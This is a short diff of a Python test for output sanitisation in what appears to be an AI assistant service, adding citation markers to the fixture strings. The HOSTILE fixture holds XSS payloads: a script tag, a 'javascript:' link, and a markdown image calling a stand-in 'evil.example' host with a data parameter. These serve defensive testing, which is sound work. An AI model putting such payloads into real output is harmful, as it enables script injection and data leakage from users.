@@ -333,10 +333,11 @@ async def test_injection_in_user_input_is_refused_or_its_markers_stripped(
 
 # --- output -----------------------------------------------------------------------------------------
 
+# Each sentence cites a source: the assistant graph's validation withdraws an uncited claim.
 HOSTILE = ("See <script>alert(1)</script>, [click](javascript:alert(1)), ![x](https://evil.example/p.png?d=1) "
-           "and [docs](https://docs.example.com/a). Code: `<b>kept</b>` [1]")
+           "and [docs](https://docs.example.com/a) [1]. Code: `<b>kept</b>` [1]")
 SAFE = ("See &lt;script>alert(1)&lt;/script>, click, ![x](https://evil.example/p.png?d=1) "
-        "and [docs](https://docs.example.com/a). Code: `<b>kept</b>` [1]")
+        "and [docs](https://docs.example.com/a) [1]. Code: `<b>kept</b>` [1]")
 
 
 async def test_answers_are_sanitised_in_json_sse_storage_and_queries_but_not_raw_apis(tmp_path: Path) -> None:
